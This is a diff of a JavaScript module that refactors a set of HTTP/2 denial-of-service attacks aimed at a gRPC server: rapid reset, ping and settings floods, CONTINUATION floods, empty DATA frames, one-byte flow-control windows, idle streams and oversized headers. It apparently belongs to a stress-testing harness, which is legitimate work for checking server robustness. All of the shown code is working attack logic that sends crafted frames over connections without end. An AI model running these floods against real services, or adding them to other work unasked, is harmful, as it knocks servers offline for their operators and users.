@@ -26,113 +26,75 @@ const call = (a, head, stream) =>
     frame(TYPE.data, message(a.largeId()), { flags: END_STREAM, stream }),
   ]);
 
-async function flood(a, next, options) {
-  const { outcome, sent } = await sendFrames(a.grpc, next, a.signal, options);
-  a.sent += sent;
-  if (outcome === 'closed') await sleep(20);
-  return outcome;
-}
+/**
+ * An attack that sends frames over connections without end.
+ * @param framesOf called once, with the attacker: headers take long to write. It makes what makes the next frames of a connection: `next(i)`
+ * @param options `prepare` comes before that, the others are those of `sendFrames`
+ */
+const flood = (framesOf, { prepare, ...options } = {}) => ({
+  isMany: true,
+  prepare: async (a) => {
+    await prepare?.(a);
+    a.nextFrames = framesOf(a);
+  },
+  act: async (a) => {
+    const { outcome, sent } = await sendFrames(a.grpc, a.nextFrames, a.signal, options);
+    a.sent += sent;
+    if (outcome === 'closed') await sleep(20);
+    return a.note(outcome);
+  },
+});
+
+/** The same frames a hundred times. */
+const hundred = (one) => Buffer.concat(Array.from({ length: 100 }, () => one));
+const PINGS = hundred(frame(TYPE.ping, Buffer.alloc(8)));
+const prepare = (a) => a.makeLarge();
 
 export const HTTP2_ATTACKS = {
-  'HTTP/2: rapid reset': {
-    isMany: true,
-    prepare: (a) => a.makeLarge(),
-    act: (a) => {
+  'HTTP/2: rapid reset': flood(
+    (a) => {
       const head = hpack(callHeaders(a));
-      return a.note(
-        flood(a, (i) =>
-          Buffer.concat([call(a, head, idOf(i)), frame(TYPE.reset, uint32(8), { stream: idOf(i) })]),
-        ),
-      );
+      return (i) =>
+        Buffer.concat([call(a, head, idOf(i)), frame(TYPE.reset, uint32(8), { stream: idOf(i) })]);
     },
-  },
-  'HTTP/2: pings': {
-    isMany: true,
-    act: (a) => {
-      const pings = frame(TYPE.ping, Buffer.alloc(8));
-      return a.note(flood(a, () => Buffer.concat(Array.from({ length: 100 }, () => pings))));
-    },
-  },
-  'HTTP/2: unread pings': {
-    isMany: true,
-    act: (a) => {
-      const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(TYPE.ping, Buffer.alloc(8))));
-      return a.note(flood(a, () => pings, { isUnread: true }));
-    },
-  },
-  'HTTP/2: settings': {
-    isMany: true,
-    act: (a) => {
-      const one = frame(TYPE.settings, setting(4, 65_535));
-      const many = Buffer.concat(Array.from({ length: 100 }, () => one));
-      return a.note(flood(a, () => many));
-    },
-  },
-  'HTTP/2: continuation': {
-    isMany: true,
-    act: (a) => {
-      const part = hpack({ 'x-header': 'x'.repeat(8_000) });
-      return a.note(
-        flood(a, (i) =>
-          i === 0
-            ? frame(TYPE.headers, hpack(callHeaders(a)), { stream: 1 })
-            : frame(TYPE.continuation, part, { stream: 1 }),
-        ),
-      );
-    },
-  },
-  'HTTP/2: empty data': {
-    isMany: true,
-    act: (a) => {
-      const empty = Buffer.concat(
-        Array.from({ length: 100 }, () => frame(TYPE.data, undefined, { stream: 1 })),
-      );
-      return a.note(
-        flood(a, (i) =>
-          i === 0 ? frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 }) : empty,
-        ),
-      );
-    },
-  },
-  'HTTP/2: windows of a byte': {
-    isMany: true,
-    prepare: (a) => a.makeLarge(),
-    act: (a) => {
+    { prepare },
+  ),
+  'HTTP/2: pings': flood(() => () => PINGS),
+  'HTTP/2: unread pings': flood(() => () => PINGS, { isUnread: true }),
+  'HTTP/2: settings': flood(() => {
+    const many = hundred(frame(TYPE.settings, setting(4, 65_535)));
+    return () => many;
+  }),
+  'HTTP/2: continuation': flood((a) => {
+    const first = frame(TYPE.headers, hpack(callHeaders(a)), { stream: 1 });
+    const part = frame(TYPE.continuation, hpack({ 'x-header': 'x'.repeat(8_000) }), { stream: 1 });
+    return (i) => (i === 0 ? first : part);
+  }),
+  'HTTP/2: empty data': flood((a) => {
+    const first = frame(TYPE.headers, hpack(callHeaders(a)), { flags: END_HEADERS, stream: 1 });
+    const empty = hundred(frame(TYPE.data, undefined, { stream: 1 }));
+    return (i) => (i === 0 ? first : empty);
+  }),
+  'HTTP/2: windows of a byte': flood(
+    (a) => {
       const head = hpack(callHeaders(a));
-      return a.note(
-        flood(
-          a,
-          (i) => {
-            if (i < 20) return call(a, head, idOf(i));
-            const more = Array.from({ length: 20 }, (_, n) =>
-              frame(TYPE.window, uint32(1), { stream: idOf(n) }),
-            );
-            return Buffer.concat(more);
-          },
-          { windowBytes: 1 },
-        ),
+      const more = Buffer.concat(
+        Array.from({ length: 20 }, (_, n) => frame(TYPE.window, uint32(1), { stream: idOf(n) })),
       );
+      return (i) => (i < 20 ? call(a, head, idOf(i)) : more);
     },
-  },
-  'HTTP/2: idle streams': {
-    isMany: true,
-    act: (a) => {
+    { prepare, windowBytes: 1 },
+  ),
+  'HTTP/2: idle streams': flood(
+    (a) => {
       const head = hpack(callHeaders(a));
-      return a.note(
-        flood(a, (i) => frame(TYPE.headers, head, { flags: END_HEADERS, stream: idOf(i) }), { max: 200 }),
-      );
+      return (i) => frame(TYPE.headers, head, { flags: END_HEADERS, stream: idOf(i) });
     },
-  },
-  'HTTP/2: large headers': {
-    isMany: true,
-    act: (a) => {
-      const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`x-${i}`, 'y'.repeat(5)]));
-      const head = hpack({ ...callHeaders(a), ...many }).subarray(0);
-      return a.note(
-        flood(a, (i) =>
-          Buffer.concat([frame(TYPE.headers, head, { flags: END_HEADERS | END_STREAM, stream: idOf(i) })]),
-        ),
-      );
-    },
-  },
+    { max: 200 },
+  ),
+  'HTTP/2: large headers': flood((a) => {
+    const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`x-${i}`, 'y'.repeat(5)]));
+    const head = hpack({ ...callHeaders(a), ...many });
+    return (i) => frame(TYPE.headers, head, { flags: END_HEADERS | END_STREAM, stream: idOf(i) });
+  }),
 };
